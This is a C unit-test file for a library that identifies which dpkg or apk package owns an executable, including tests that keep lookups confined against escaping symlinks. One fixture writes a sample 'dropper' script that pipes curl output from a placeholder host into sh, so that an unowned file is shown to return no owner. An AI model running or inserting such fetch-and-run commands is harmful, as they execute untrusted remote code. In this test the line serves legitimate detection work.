// SPDX-License-Identifier: MIT
/* Package provenance: dpkg and apk databases in synthetic roots, the lookup order, the host. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <time.h>
#include <cmocka.h>

#include "identity/apk.h"
#include "identity/dpkg.h"
#include "identity/package.h"
#include "pkg_tree.h"

static const char status_text[] =
    "Package: coreutils\n"
    "Essential: yes\n"
    "Status: install ok installed\n"
    "Priority: required\n"
    "Architecture: amd64\n"
    "Version: 9.1-1\n"
    "Maintainer: Michael Stone <mstone@debian.org>\n"
    "Description: GNU core utilities\n"
    " This package contains the basic file, shell and text manipulation\n"
    " Package: not-a-field\n"
    "\n"
    "Package: libfoo1\n"
    "Status: install ok installed\n"
    "Architecture: i386\n"
    "Multi-Arch: same\n"
    "Version: 1:2.0-3\n"
    "Maintainer: Wrong Arch <i386@example.org>\n"
    "\n"
    "Package: libfoo1\n"
    "Status: install ok installed\n"
    "Architecture: amd64\n"
    "Multi-Arch: same\n"
    "Version: 1:2.0-3\n"
    "Maintainer: Foo Team <foo@example.org>\n"
    "\n"
    "Package: atera-agent\n"
    "Status: install ok installed\n"
    "Architecture: amd64\n"
    "Version: 1.8.7.2\n"
    "Maintainer: <support@atera.com>\n"
    "Origin: Atera Networks\n"
    "\n"
    "Package: gone\n"
    "Status: deinstall ok config-files\n"
    "Version: 0.1\n"
    "Maintainer: Old Maintainer <old@example.org>\n";

struct fx {
	char top[PATH_MAX];
	char root[PATH_MAX];
	int root_fd;
};

/* A merged-/usr Debian root: lists spell /bin and /usr/bin both ways. */
static int setup(void **state)
{
	struct fx *fx = calloc(1, sizeof(*fx));

	dpkg__cache_flush();
	tree_new(fx->top, sizeof(fx->top));
	tree_path(fx->root, sizeof(fx->root), fx->top, "root");
	tree_symlink(fx->root, "bin", "usr/bin");
	tree_symlink(fx->root, "lib", "usr/lib");
	tree_mkdir(fx->root, "usr/bin");
	tree_mkdir(fx->root, "usr/lib");
	tree_puts(fx->root, "var/lib/dpkg/status", status_text);
	tree_puts(fx->root, "var/lib/dpkg/info/coreutils.list",
		  "/.\n/bin\n/bin/ls\n/bin/cat\n/usr/bin/env\n/usr\n/usr/bin\n");
	tree_puts(fx->root, "var/lib/dpkg/info/coreutils.md5sums", "0 /bin/not-a-list\n");
	tree_puts(fx->root, "var/lib/dpkg/info/libfoo1:amd64.list", "/usr/lib/libfoo.so.1\n");
	tree_puts(fx->root, "var/lib/dpkg/info/atera-agent.list",
		  "/usr/bin\n/opt/atera/AteraAgent\n");
	tree_puts(fx->root, "var/lib/dpkg/info/unknown-to-status.list", "/usr/bin/orphan\n");
	fx->root_fd = tree_open(fx->root);
	*state = fx;
	return 0;
}

static int teardown(void **state)
{
	struct fx *fx = *state;

	dpkg__cache_flush();
	close(fx->root_fd);
	tree_remove(fx->top);
	free(fx);
	return 0;
}

/* ---- dpkg ---- */

static void dpkg_lookup__listed_path__maintainer_name_and_version(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;

	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), 0);
	assert_string_equal(pi.name, "coreutils");
	assert_string_equal(pi.version, "9.1-1");
	assert_string_equal(pi.vendor, "Michael Stone");
	assert_string_equal(pi.source, "dpkg");
}

static void dpkg_lookup__merged_usr__either_spelling(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;

	/* Listed as /bin/cat, executed as /usr/bin/cat. */
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/cat", &pi), 0);
	assert_string_equal(pi.name, "coreutils");
	/* Listed as /usr/bin/env, executed as /bin/env. */
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/env", &pi), 0);
	assert_string_equal(pi.name, "coreutils");
	assert_int_equal(dpkg__lookup(fx->root_fd, "/lib/libfoo.so.1", &pi), 0);
	assert_string_equal(pi.name, "libfoo1");
}

static void dpkg_lookup__split_usr__no_aliasing(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;

	/* /bin is a real directory here: /usr/bin/ls is another file than /bin/ls. */
	tree_rm(fx->root, "bin");
	tree_mkdir(fx->root, "bin");
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/ls", &pi), -ENOENT);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), 0);
}

static void dpkg_lookup__origin__preferred_to_maintainer(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;

	assert_int_equal(dpkg__lookup(fx->root_fd, "/opt/atera/AteraAgent", &pi), 0);
	assert_string_equal(pi.vendor, "Atera Networks");
	assert_string_equal(pi.name, "atera-agent");
	assert_string_equal(pi.version, "1.8.7.2");
}

static void dpkg_lookup__multiarch__record_of_the_listed_arch(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;

	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/lib/libfoo.so.1", &pi), 0);
	assert_string_equal(pi.name, "libfoo1"); /* without ":amd64" */
	assert_string_equal(pi.version, "1:2.0-3");
	assert_string_equal(pi.vendor, "Foo Team");
}

static void dpkg_lookup__no_status_record__name_only(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;

	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/orphan", &pi), 0);
	assert_string_equal(pi.name, "unknown-to-status");
	assert_string_equal(pi.version, "");
	assert_string_equal(pi.vendor, "");
}

static void dpkg_lookup__unowned__enoent(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;

	assert_int_equal(dpkg__lookup(fx->root_fd, "/tmp/dropper", &pi), -ENOENT);
	/* A path only inside a non-.list file of the info directory. */
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/not-a-list", &pi), -ENOENT);
	assert_int_equal(dpkg__lookup(fx->root_fd, "relative/path", &pi), -EINVAL);
}

static void dpkg_lookup__no_database__enoent(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;
	char empty[PATH_MAX];
	int fd;

	tree_path(empty, sizeof(empty), fx->top, "empty");
	tree_mkdir(fx->top, "empty");
	fd = tree_open(empty);
	assert_int_equal(dpkg__lookup(fd, "/bin/ls", &pi), -ENOENT);
	close(fd);
}

static void dpkg_lookup__escaping_symlinks__host_files_not_read(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;
	char abs[PATH_MAX];

	/* Host-side files that only a resolution escaping the root could reach. */
	tree_puts(fx->top, "host/status",
		  "Package: evil\nVersion: 6.6.6\nMaintainer: Host Secret <x@y>\n");
	tree_puts(fx->top, "host/evil.list", "/usr/bin/evil\n");
	tree_puts(fx->root, "usr/bin/evil", "");
	tree_puts(fx->root, "var/lib/dpkg/info/evil.list", "/usr/bin/evil\n");
	tree_rm(fx->root, "var/lib/dpkg/status");
	tree_symlink(fx->root, "var/lib/dpkg/status", "../../../../host/status");
	tree_path(abs, sizeof(abs), fx->top, "host/evil.list");
	tree_symlink(fx->root, "var/lib/dpkg/info/hostlist.list", abs);

	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/evil", &pi), 0);
	assert_string_equal(pi.name, "evil");
	assert_string_equal(pi.version, ""); /* the host's status was not read */
	assert_string_equal(pi.vendor, "");
	/* The symlinked list would have named "hostlist" if followed out. */
	tree_puts(fx->top, "host/only-on-host.list", "/usr/bin/hostonly\n");
	tree_path(abs, sizeof(abs), fx->top, "host/only-on-host.list");
	tree_symlink(fx->root, "var/lib/dpkg/info/escape.list", abs);
	tree_set_mtime(fx->root, "var/lib/dpkg/info", 1000);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/hostonly", &pi), -ENOENT);
}

static void dpkg_lookup__info_dir_as_symlink_out__confined(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;
	char abs[PATH_MAX];

	/* The whole database directory pointing at a host copy of one. */
	tree_puts(fx->top, "hostdb/info/hostpkg.list", "/bin/ls\n");
	tree_path(abs, sizeof(abs), fx->top, "hostdb/info");
	tree_rm(fx->root, "var/lib/dpkg/info");
	tree_symlink(fx->root, "var/lib/dpkg/info", abs);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), -ENOENT);
}

static void dpkg_lookup__garbage_and_huge_files__bounded(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;
	char garbage[4096];

	for (size_t i = 0; i < sizeof(garbage); i++)
		garbage[i] = (char)(i * 7919 + (i >> 3));
	tree_write(fx->root, "var/lib/dpkg/info/garbage.list", garbage, sizeof(garbage));
	tree_sparse(fx->root, "var/lib/dpkg/info/huge.list", DPKG_MAX_LIST_SIZE + 1);
	tree_write(fx->root, "var/lib/dpkg/info/nonl.list", "/usr/bin/last-line", 18);
	/* Still answers for the sane lists around them. */
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), 0);
	assert_string_equal(pi.version, "9.1-1");
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/last-line", &pi), 0);
	assert_string_equal(pi.name, "nonl");

	/* A status file over the cap: owners are still known, records are not. */
	tree_sparse(fx->root, "var/lib/dpkg/status", DPKG_MAX_STATUS + 1);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), 0);
	assert_string_equal(pi.name, "coreutils");
	assert_string_equal(pi.version, "");
	tree_write(fx->root, "var/lib/dpkg/status", garbage, sizeof(garbage));
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), 0);
	assert_string_equal(pi.version, "");
}

static void dpkg_lookup__index__built_once_rebuilt_on_info_change(void **state)
{
	struct fx *fx = *state;
	struct dpkg_stats before, after;
	struct pkg_info pi;

	tree_set_mtime(fx->root, "var/lib/dpkg/info", 1000);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), 0);
	dpkg__stats(&before);
	assert_int_equal(before.roots, 1);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/cat", &pi), 0);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/new", &pi), -ENOENT);
	dpkg__stats(&after);
	assert_int_equal(after.index_builds, before.index_builds);
	assert_int_equal(after.status_loads, before.status_loads);

	/* A package is installed: its list appears and the directory's mtime moves. */
	tree_puts(fx->root, "var/lib/dpkg/info/newpkg.list", "/usr/bin/new\n");
	tree_set_mtime(fx->root, "var/lib/dpkg/info", 2000);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/new", &pi), 0);
	assert_string_equal(pi.name, "newpkg");
	dpkg__stats(&after);
	assert_int_equal(after.index_builds, before.index_builds + 1);

	/* Status changes (an upgrade) reload the records, not the lists. */
	tree_puts(fx->root, "var/lib/dpkg/status",
		  "Package: coreutils\nVersion: 9.4-3\nMaintainer: New Person <n@p>\n");
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), 0);
	assert_string_equal(pi.version, "9.4-3");
	assert_string_equal(pi.vendor, "New Person");
	dpkg__stats(&after);
	assert_int_equal(after.index_builds, before.index_builds + 1);
	assert_int_equal(after.status_loads, before.status_loads + 1);
}

static void dpkg_lookup__list_added_in_same_mtime__seen_later(void **state)
{
	struct fx *fx = *state;
	struct dpkg_stats before, after;
	struct pkg_info pi;
	time_t t = time(NULL);

	/* Built while the directory was being changed, in the same timestamp tick... */
	tree_set_mtime(fx->root, "var/lib/dpkg/info", t);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/bin/ls", &pi), 0);
	dpkg__stats(&before);
	tree_puts(fx->root, "var/lib/dpkg/info/late.list", "/usr/bin/late\n");
	tree_set_mtime(fx->root, "var/lib/dpkg/info", t);
	/* ...the index is rebuilt once the clock is past that tick. */
	while (time(NULL) <= t + 1)
		usleep(100 * 1000);
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/late", &pi), 0);
	assert_string_equal(pi.name, "late");
	assert_int_equal(dpkg__lookup(fx->root_fd, "/usr/bin/late", &pi), 0);
	dpkg__stats(&after);
	assert_int_equal(after.index_builds, before.index_builds + 1);
}

static void dpkg_lookup__many_roots__cache_bounded(void **state)
{
	struct fx *fx = *state;
	struct dpkg_stats st;
	struct pkg_info pi;

	for (int i = 0; i < DPKG_CACHE_ROOTS + 3; i++) {
		char rel[64], dir[PATH_MAX], list[128];
		int fd;

		snprintf(rel, sizeof(rel), "r%d/var/lib/dpkg/info/p%d.list", i, i);
		snprintf(list, sizeof(list), "/usr/bin/p%d\n", i);
		tree_puts(fx->top, rel, list);
		snprintf(rel, sizeof(rel), "r%d", i);
		tree_path(dir, sizeof(dir), fx->top, rel);
		fd = tree_open(dir);
		snprintf(list, sizeof(list), "/usr/bin/p%d", i);
		assert_int_equal(dpkg__lookup(fd, list, &pi), 0);
		snprintf(list, sizeof(list), "p%d", i);
		assert_string_equal(pi.name, list);
		/* Each root answers from its own index only. */
		assert_int_equal(dpkg__lookup(fd, "/bin/ls", &pi), -ENOENT);
		close(fd);
	}
	dpkg__stats(&st);
	assert_int_equal(st.roots, DPKG_CACHE_ROOTS);
}

/* ---- dpkg parsers ---- */

struct collect {
	int n;
	char names[8][64];
};

static int collect_rec(const struct dpkg_record *r, void *arg)
{
	struct collect *c = arg;

	if (c->n < 8)
		snprintf(c->names[c->n], 64, "%.*s=%.*s", (int)r->package.len, r->package.s,
			 (int)r->version.len, r->version.s);
	c->n++;
	return 0;
}

static void dpkg_parse_status__stanzas__fields_and_continuations(void **state)
{
	struct collect c = {};
	const char text[] = "package:  a \r\nversion: 1\n description: x\n\n\n"
			    "Package: b\nVersion:2\n Package: c\n"; /* no final blank line */

	assert_int_equal(dpkg__parse_status(text, sizeof(text) - 1, collect_rec, &c), 0);
	assert_int_equal(c.n, 2);
	assert_string_equal(c.names[0], "a=1");
	assert_string_equal(c.names[1], "b=2");
	c.n = 0;
	assert_int_equal(dpkg__parse_status(status_text, sizeof(status_text) - 1, collect_rec, &c),
			 0);
	assert_int_equal(c.n, 5);
	assert_string_equal(c.names[0], "coreutils=9.1-1");
}

static int count_path(const char *path, size_t len, void *arg)
{
	(*(int *)arg)++;
	return 0;
}

static void dpkg_parse_list__only_absolute_paths(void **state)
{
	const char text[] = "/.\n/usr\nrelative\n\n/usr/bin/x\n/a\0b\n/last";
	int n = 0;

	assert_int_equal(dpkg__parse_list(text, sizeof(text) - 1, count_path, &n), 0);
	assert_int_equal(n, 3); /* /usr, /usr/bin/x, /last */
}

/* ---- apk ---- */

static const char apk_db[] = "C:Q1abc=\n"
			     "P:busybox\n"
			     "V:1.36.1-r15\n"
			     "A:x86_64\n"
			     "m:Sören Tempel <soeren+alpine@soeren-tempel.net>\n"
			     "o:busybox\n"
			     "F:bin\n"
			     "R:busybox\n"
			     "F:etc\n"
			     "R:securetty\n"
			     "\n"
			     "P:rmm-agent\n"
			     "V:2.0-r0\n"
			     "o:rmm\n"
			     "R:toplevel\n"
			     "F:usr/local/bin\n"
			     "R:agent\n";

static void apk_parse_installed__folder_and_file__package(void **state)
{
	struct pkg_info pi;
	size_t n = sizeof(apk_db) - 1;

	assert_int_equal(apk__parse_installed(apk_db, n, "/bin/busybox", NULL, &pi), 0);
	assert_string_equal(pi.name, "busybox");
	assert_string_equal(pi.version, "1.36.1-r15");
	assert_string_equal(pi.vendor, "Sören Tempel");
	assert_string_equal(pi.source, "apk");
	/* Last stanza without a blank line; no maintainer: the origin. */
	assert_int_equal(apk__parse_installed(apk_db, n, "/usr/local/bin/agent", NULL, &pi), 0);
	assert_string_equal(pi.name, "rmm-agent");
	assert_string_equal(pi.vendor, "rmm");
	assert_int_equal(apk__parse_installed(apk_db, n, "/toplevel", NULL, &pi), 0);
	assert_int_equal(apk__parse_installed(apk_db, n, "/etc/busybox", NULL, &pi), -ENOENT);
	assert_int_equal(apk__parse_installed(apk_db, n, "/bin", NULL, &pi), -ENOENT);
	assert_int_equal(apk__parse_installed(apk_db, n, "/usr/bin/busybox", "/bin/busybox", &pi),
			 0);
}

static void apk_lookup__root__merged_usr_and_missing_db(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;

	assert_int_equal(apk__lookup(fx->root_fd, "/bin/busybox", &pi), -ENOENT);
	tree_puts(fx->root, APK_DB_PATH, apk_db);
	assert_int_equal(apk__lookup(fx->root_fd, "/bin/busybox", &pi), 0);
	/* bin -> usr/bin in this root. */
	assert_int_equal(apk__lookup(fx->root_fd, "/usr/bin/busybox", &pi), 0);
	assert_string_equal(pi.name, "busybox");
	assert_int_equal(apk__lookup(fx->root_fd, "/tmp/x", &pi), -ENOENT);
}

/* ---- package__lookup: order and fallbacks ---- */

static int compile_with_note(const char *dir, const char *name, const char *json, char *out,
			     size_t size)
{
	char cmd[PATH_MAX * 3];

	tree_path(out, size, dir, name);
	tree_puts(dir, "main.c", "int main(void) { return 0; }\n");
	snprintf(cmd, sizeof(cmd), "gcc -o '%s' -x c '%s/main.c' -Xlinker '--package-metadata=%s'",
		 out, dir, json);
	return system(cmd);
}

static void package_lookup__database_first_then_elf_note(void **state)
{
	struct fx *fx = *state;
	char exe[PATH_MAX];
	struct pkg_info pi;
	int fd;

	assert_int_equal(compile_with_note(fx->root, "usr/bin/ls-copy",
					   "{\"type\":\"deb\",\"name\":\"notecoreutils\","
					   "\"version\":\"0.0.1\",\"os\":\"debian\"}",
					   exe, sizeof(exe)),
			 0);
	fd = open(exe, O_RDONLY | O_CLOEXEC);
	assert_true(fd >= 0);
	/* The same file under a listed path: the database wins. */
	assert_int_equal(package__lookup(fx->root_fd, "/bin/ls", fd, &pi), 0);
	assert_string_equal(pi.source, "dpkg");
	assert_string_equal(pi.name, "coreutils");
	/* Unlisted: the note answers. */
	assert_int_equal(package__lookup(fx->root_fd, "/usr/bin/ls-copy", fd, &pi), 0);
	assert_string_equal(pi.source, "elf-note");
	assert_string_equal(pi.name, "notecoreutils");
	assert_string_equal(pi.version, "0.0.1");
	assert_string_equal(pi.vendor, "debian");
	/* No path at all (deleted file): the note still answers. */
	assert_int_equal(package__lookup(fx->root_fd, NULL, fd, &pi), 0);
	assert_string_equal(pi.source, "elf-note");
	close(fd);
}

static void package_lookup__unowned_script__enoent(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;
	char p[PATH_MAX];
	int fd;

	tree_puts(fx->root, "tmp/dropper.sh", "#!/bin/sh\ncurl example.invalid | sh\n");
	tree_path(p, sizeof(p), fx->root, "tmp/dropper.sh");
	fd = open(p, O_RDONLY | O_CLOEXEC);
	assert_true(fd >= 0);
	memset(&pi, 'x', sizeof(pi));
	assert_int_equal(package__lookup(fx->root_fd, "/tmp/dropper.sh", fd, &pi), -ENOENT);
	assert_string_equal(pi.name, ""); /* cleared on a miss */
	assert_null(pi.source);
	assert_int_equal(package__lookup(fx->root_fd, "/tmp/dropper.sh", -1, &pi), -ENOENT);
	assert_int_equal(package__lookup(fx->root_fd, "/bin/ls", -1, NULL), -EINVAL);
	close(fd);
}

static void package_lookup__apk_root(void **state)
{
	struct fx *fx = *state;
	struct pkg_info pi;
	char alpine[PATH_MAX];
	int fd;

	tree_path(alpine, sizeof(alpine), fx->top, "alpine");
	tree_puts(alpine, APK_DB_PATH, apk_db);
	fd = tree_open(alpine);
	assert_int_equal(package__lookup(fd, "/usr/local/bin/agent", -1, &pi), 0);
	assert_string_equal(pi.source, "apk");
	assert_string_equal(pi.name, "rmm-agent");
	close(fd);
}

/* ---- the real host ---- */

static int run_line(const char *cmd, char *out, size_t size)
{
	FILE *p = popen(cmd, "r");
	size_t n;

	if (!p)
		return -1;
	n = fread(out, 1, size - 1, p);
	out[n] = '\0';
	out[strcspn(out, "\n")] = '\0';
	return pclose(p) ? -1 : 0;
}

static void package_lookup__host_ls__coreutils_maintainer(void **state)
{
	char owner[256], maint[512], version[256], exe[PATH_MAX], *lt;
	struct pkg_info pi;
	int root_fd, fd;

	/* Whichever spelling dpkg knows; the lookup must also find the other one. */
	if (run_line("dpkg-query -S /usr/bin/ls 2>/dev/null || dpkg-query -S /bin/ls", owner,
		     sizeof(owner))) {
		skip();
	}
	assert_int_equal(
	    run_line("dpkg-query -W -f '${Maintainer}' coreutils", maint, sizeof(maint)), 0);
	assert_int_equal(
	    run_line("dpkg-query -W -f '${Version}' coreutils", version, sizeof(version)), 0);
	lt = strchr(maint, '<');
	if (lt && lt > maint) {
		*lt = '\0';
		while (lt > maint && lt[-1] == ' ')
			*--lt = '\0';
	}
	assert_true(realpath("/usr/bin/ls", exe) != NULL);
	root_fd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	fd = open(exe, O_RDONLY | O_CLOEXEC);
	assert_true(root_fd >= 0 && fd >= 0);
	for (int i = 0; i < 2; i++) {
		const char *path = i ? "/bin/ls" : "/usr/bin/ls";

		assert_int_equal(package__lookup(root_fd, path, fd, &pi), 0);
		assert_string_equal(pi.source, "dpkg");
		assert_string_equal(pi.name, "coreutils");
		assert_string_equal(pi.vendor, maint);
		assert_string_equal(pi.version, version);
	}
	close(fd);
	close(root_fd);
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
	const struct CMUnitTest tests[] = {
	    T(dpkg_lookup__listed_path__maintainer_name_and_version),
	    T(dpkg_lookup__merged_usr__either_spelling),
	    T(dpkg_lookup__split_usr__no_aliasing),
	    T(dpkg_lookup__origin__preferred_to_maintainer),
	    T(dpkg_lookup__multiarch__record_of_the_listed_arch),
	    T(dpkg_lookup__no_status_record__name_only),
	    T(dpkg_lookup__unowned__enoent),
	    T(dpkg_lookup__no_database__enoent),
	    T(dpkg_lookup__escaping_symlinks__host_files_not_read),
	    T(dpkg_lookup__info_dir_as_symlink_out__confined),
	    T(dpkg_lookup__garbage_and_huge_files__bounded),
	    T(dpkg_lookup__index__built_once_rebuilt_on_info_change),
	    T(dpkg_lookup__list_added_in_same_mtime__seen_later),
	    T(dpkg_lookup__many_roots__cache_bounded),
	    T(dpkg_parse_status__stanzas__fields_and_continuations),
	    T(dpkg_parse_list__only_absolute_paths),
	    T(apk_parse_installed__folder_and_file__package),
	    T(apk_lookup__root__merged_usr_and_missing_db),
	    T(package_lookup__database_first_then_elf_note),
	    T(package_lookup__unowned_script__enoent),
	    T(package_lookup__apk_root),
	    T(package_lookup__host_ls__coreutils_maintainer),
	};
#undef T

	return cmocka_run_group_tests(tests, NULL, NULL);
}
